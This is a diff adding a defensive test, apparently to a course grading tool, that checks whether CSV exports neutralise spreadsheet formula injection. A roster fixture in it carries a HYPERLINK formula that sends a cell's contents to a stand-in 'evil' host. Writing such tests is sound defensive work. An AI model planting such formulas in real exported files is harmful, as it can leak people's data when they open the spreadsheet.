@@ -320,3 +320,30 @@ def test_cli_export_needs_a_graded_roster_student(tmp_path: Path, monkeypatch, c
     err = capsys.readouterr().err
     assert err.startswith("error: no student on the roster has a graded submission: nothing to export")
     assert (tmp_path / "out" / "roster.csv").exists() and not (tmp_path / "out" / "canvas.csv").exists()
+
+
+# --- CSV injection ---------------------------------------------------------------------------------
+
+
+def test_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
+    """Names from a roster (and ids from uploads) reach Excel: =, +, -, @, tab and CR lead with a quote."""
+    assert [report.spreadsheet_safe(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "", 3)] == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "3"]
+    hostile = read_roster(_roster_file(tmp_path, (
+        "id,name,email,section\n"
+        'ann,"=HYPERLINK(""http://evil/?""&A1,""click"")",@ann,+A1\n'
+        "-bob,-Bob,bob@uni.edu,@A1\n"
+    )))
+    graded = [_result("ann"), _result("-bob")]
+    entries = join(graded, hostile)
+    joined = write_joined(entries, tmp_path / roster.ROSTER).read_text()
+    assert joined.splitlines()[1:3] == [
+        'ann,"\'=HYPERLINK(""http://evil/?""&A1,""click"")",\'@ann,\'+A1,100,100,',
+        "'-bob,'-Bob,bob@uni.edu,'@A1,100,100,",
+    ]
+    canvas = write_canvas(entries, tmp_path / roster.CANVAS).read_text().splitlines()
+    assert canvas[2:] == ['"\'=HYPERLINK(""http://evil/?""&A1,""click"")",,ann,\'@ann,\'+A1,100',
+                          "'-Bob,,'-bob,bob@uni.edu,'@A1,100"]
+    _write(tmp_path / "out", _result("-bob"), _result("=evil"))
+    rows = list(csv.reader(io.StringIO(report.write_gradebook(tmp_path / "out").read_text())))
+    assert sorted(row[0] for row in rows[1:]) == ["'-bob", "'=evil"]
